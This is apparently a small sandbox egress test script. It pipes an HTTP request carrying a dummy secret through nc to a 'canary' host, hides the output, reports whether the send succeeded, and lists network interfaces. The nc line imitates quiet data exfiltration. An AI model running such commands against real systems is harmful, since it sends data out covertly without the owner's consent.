# Tries to send data out, quietly, the way a careless or hostile script would.
printf "GET /collect?secret=42 HTTP/1.0\r\n\r\n" | nc -w 3 canary 8080 >/dev/null 2>&1 && echo "sent" || echo "could not send"
echo "interfaces: $(ls /sys/class/net | xargs)"
